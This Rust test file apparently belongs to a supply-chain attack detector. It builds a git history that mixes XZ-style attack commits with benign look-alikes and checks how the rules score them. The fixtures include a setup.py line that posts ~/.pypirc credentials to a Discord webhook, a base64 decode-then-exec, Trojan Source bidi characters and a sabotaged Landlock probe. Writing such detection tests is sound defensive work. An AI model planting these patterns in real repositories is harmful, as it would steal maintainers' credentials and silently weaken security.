//! Content-based signals end to end: commits made with real `git` from a commit script, mined
//! (diff hunks, content scan), then judged by the rules. Each attack shape has a benign look-alike that must stay
//! quiet (no evidence from the rule, or only routine-weight evidence).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::print_stderr)]

mod common;

use common::change_evidence;
use garrison_history::rules::Evidence;
use garrison_history::{AnalyzeOptions, History, MineOptions, analyze, mine};
use garrison_report::Severity;
use garrison_test::git::Built;

/// The strongest evidence of `rule` (weight), if any.
fn weight(ev: &[Evidence], rule: &str) -> f64 {
    ev.iter()
        .filter(|e| e.rule.id == rule)
        .map(|e| e.weight)
        .fold(0.0, f64::max)
}

fn strongest<'a>(ev: &'a [Evidence], rule: &str) -> &'a Evidence {
    ev.iter()
        .filter(|e| e.rule.id == rule)
        .max_by(|a, b| a.weight.total_cmp(&b.weight))
        .unwrap_or_else(|| panic!("no {rule} evidence in {ev:#?}"))
}

/// One repository, one commit per scenario (a day apart), attack shapes first, then benign
/// look-alikes. `<RLO>`, `<LRI>` and `<PDI>` stand for the bidi controls U+202E, U+2066, U+2069.
const SCRIPT: &str = r#"
person mara = Mara Maintainer <mara@example.org>
author mara
date 2020-09-14T12:26:40Z
commit [root] initial import
  write CMakeLists.txt
  | cmake_minimum_required(VERSION 3.14)
  | project(xzlike C)
  | include(CheckCSourceCompiles)
  | check_c_source_compiles("
  |     #include <sys/prctl.h>
  |     #include <linux/landlock.h>
  |     #include <sys/syscall.h>
  |     void my_sandbox(void)
  |     {
  |         (void)prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
  |         (void)SYS_landlock_create_ruleset;
  |     }
  |     int main(void) { return 0; }
  |     "
  |     HAVE_LINUX_LANDLOCK)
  | set(CMAKE_C_FLAGS "${CMAKE_C_FLAGS} -fstack-protector-strong -D_FORTIFY_SOURCE=2")
  | add_library(xzlike src/lib.c)
  write src/lib.c
  | int f(void) { return 1; }
  write setup.py
  | from setuptools import setup
  | setup(name='pkg')
  write pkg/__init__.py
  | VERSION = '1.0'
  write .gitignore
  | *.pyc
  write SECURITY.md
  | # Security
  |
  | Report vulnerabilities privately to security@example.org.
  | We answer within 7 days.
  write requirements.txt
  | numpy==2.0.0

# --- attack shapes ---
date +1d
commit [ignore_m4] Build: ignore generated files
  append .gitignore
  | build-to-host.m4
  | m4/*.m4
date +1d
commit [stray_dot] CMake: fix the Landlock check
  replace CMakeLists.txt
  -     void my_sandbox(void)
  + .
  +     void my_sandbox(void)
date +1d
commit [decode_exec] setup: tidy
  append setup.py
  | import base64, zlib
  | exec(zlib.decompress(base64.b64decode('eJzLSM3JyVcozy/KSQEAGgQEXQ==')))
date +1d
commit [bidi] core: access check
  write pkg/access.py
  | def is_admin(level):
  |     return level == "user<RLO> <LRI># admin only<PDI> <LRI>"
date +1d
commit [constructor] lib: init tables early
  append src/lib.c
  | static void __attribute__((constructor)) init_tables(void) { }
date +1d
commit [exfil] setup: report install stats
  append setup.py
  | import os, requests
  | requests.post('https://discord.com/api/webhooks/123/abc', data=open(os.path.expanduser('~/.pypirc')).read())
date +1d
commit [contact] SECURITY: new contact
  replace SECURITY.md
  - Report vulnerabilities privately to security@example.org.
  + Report vulnerabilities privately to jt.helper@example.net.
date +1d
commit [export_ignore] attributes: smaller tarballs
  write .gitattributes
  | *.m4 export-ignore
date +1d
commit [hardening] CMake: simplify flags
  replace CMakeLists.txt
  - set(CMAKE_C_FLAGS "${CMAKE_C_FLAGS} -fstack-protector-strong -D_FORTIFY_SOURCE=2")
  + set(CMAKE_C_FLAGS "${CMAKE_C_FLAGS}")

# --- benign look-alikes ---
date +1d
commit [ignore_routine] gitignore: build outputs
  append .gitignore
  | build/
  | dist/
  | *.egg-info
  | __pycache__/
date +1d
commit [eval_lookalike] core: evaluation helpers
  write pkg/evaluate.py
  | import ast
  |
  | def run(model, s):
  |     model.eval()
  |     return ast.literal_eval(s)
date +1d
commit [git_describe] setup: version from git
  append setup.py
  | import subprocess
  | VERSION = subprocess.run(['git', 'describe', '--tags'], capture_output=True, text=True).stdout
date +1d
commit [hashes] requirements: hashes
  write requirements.txt
  | numpy==2.0.0 \
  |     --hash=sha256:9a5f0a1e8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e
date +1d
commit [cmake_unrelated] CMake: add a source
  append CMakeLists.txt
  | target_sources(xzlike PRIVATE src/extra.c)
date +1d
commit [policy_grows] SECURITY: supported versions
  append SECURITY.md
  |
  | ## Supported versions
  |
  | The latest minor release.
"#;

/// The repository of [`SCRIPT`], mined.
fn build() -> (Built, History) {
    let script = SCRIPT
        .replace("<RLO>", "\u{202E}")
        .replace("<LRI>", "\u{2066}")
        .replace("<PDI>", "\u{2069}");
    let b = garrison_test::git::build(&script);
    let h = mine(b.path(), &MineOptions::default()).unwrap();
    assert!(h.warnings.is_empty(), "{:?}", h.warnings);
    (b, h)
}

#[test]
fn attack_shapes_fire_and_look_alikes_stay_quiet() {
    if !garrison_test::git::require_git() {
        return;
    }
    let (b, h) = build();
    let ev = |label: &str| change_evidence(&h, b.id(label));

    // .gitignore hiding a build macro (the XZ trigger lived in such a file).
    let e = ev("ignore_m4");
    let s = strongest(&e, "history/ignore-rules-hide-files");
    assert_eq!(s.weight, 5.0, "{s:?}");
    assert!(s.message.contains(".gitignore"), "{}", s.message);
    assert!(s.message.contains("build-to-host.m4"), "{}", s.message);
    assert_eq!(s.path.as_deref(), Some(".gitignore"));
    assert_eq!(s.line, Some(2));

    // A stray `.` inside the Landlock feature probe.
    let e = ev("stray_dot");
    let s = strongest(&e, "history/build-system-change");
    assert!(s.weight >= 4.0, "{s:?}");
    assert!(s.message.contains("CMakeLists.txt"), "{}", s.message);

    // Decode then execute in setup.py.
    let e = ev("decode_exec");
    let s = strongest(&e, "history/obfuscated-code");
    assert_eq!(s.weight, 8.0);
    assert_eq!((s.path.as_deref(), s.line), (Some("setup.py"), Some(4)));

    // Trojan Source: the excerpt shows the invisible controls.
    let e = ev("bidi");
    let s = strongest(&e, "history/trojan-source");
    assert_eq!(s.weight, 7.0);
    assert!(s.message.contains("<U+202E>"), "{}", s.message);

    // A C constructor.
    let e = ev("constructor");
    assert_eq!(weight(&e, "history/c-hooking"), 4.0, "{e:#?}");

    // Exfiltration from setup.py: network at build time, a webhook, a credential store.
    let e = ev("exfil");
    assert!(weight(&e, "history/exfiltration") >= 4.0, "{e:#?}");

    // Security contact replaced.
    let e = ev("contact");
    let s = strongest(&e, "history/security-policy-weakened");
    assert_eq!(s.weight, 4.0);
    assert!(s.message.contains("jt.helper@example.net"), "{}", s.message);

    // export-ignore drops build inputs from `git archive` tarballs.
    let e = ev("export_ignore");
    assert!(
        weight(&e, "history/ignore-rules-hide-files") >= 3.0,
        "{e:#?}"
    );

    // Hardening flags removed.
    let e = ev("hardening");
    let s = strongest(&e, "history/build-system-change");
    assert_eq!(s.weight, 4.0, "{s:?}");
    assert!(s.message.contains("weakened"), "{}", s.message);

    // --- look-alikes ---
    let e = ev("ignore_routine");
    assert!(
        weight(&e, "history/ignore-rules-hide-files") < 0.5,
        "{e:#?}"
    );
    let e = ev("eval_lookalike");
    assert_eq!(weight(&e, "history/obfuscated-code"), 0.0, "{e:#?}");
    let e = ev("git_describe");
    assert!(weight(&e, "history/build-system-change") <= 0.3, "{e:#?}");
    assert_eq!(weight(&e, "history/exfiltration"), 0.0, "{e:#?}");
    let e = ev("hashes");
    assert_eq!(weight(&e, "history/obfuscated-code"), 0.0, "{e:#?}");
    let e = ev("cmake_unrelated");
    assert!(weight(&e, "history/build-system-change") < 1.0, "{e:#?}");
    let e = ev("policy_grows");
    assert_eq!(
        weight(&e, "history/security-policy-weakened"),
        0.0,
        "{e:#?}"
    );

    // Ranked: every attack commit is reported at low or above, no look-alike above info.
    let a = analyze(&h, &AnalyzeOptions::default());
    for label in [
        "ignore_m4",
        "stray_dot",
        "decode_exec",
        "bidi",
        "constructor",
        "exfil",
        "contact",
        "export_ignore",
        "hardening",
    ] {
        let s = a
            .commits
            .iter()
            .find(|c| c.id == b.id(label))
            .unwrap_or_else(|| panic!("{label} not reported"));
        assert!(s.severity >= Severity::Low, "{label}: {}", s.score);
    }
    for label in [
        "ignore_routine",
        "eval_lookalike",
        "git_describe",
        "hashes",
        "cmake_unrelated",
        "policy_grows",
    ] {
        let s = a.commits.iter().find(|c| c.id == b.id(label));
        assert!(
            s.is_none_or(|s| s.severity == Severity::Info),
            "{label}: {:?}",
            s.map(|s| s.score)
        );
    }
}
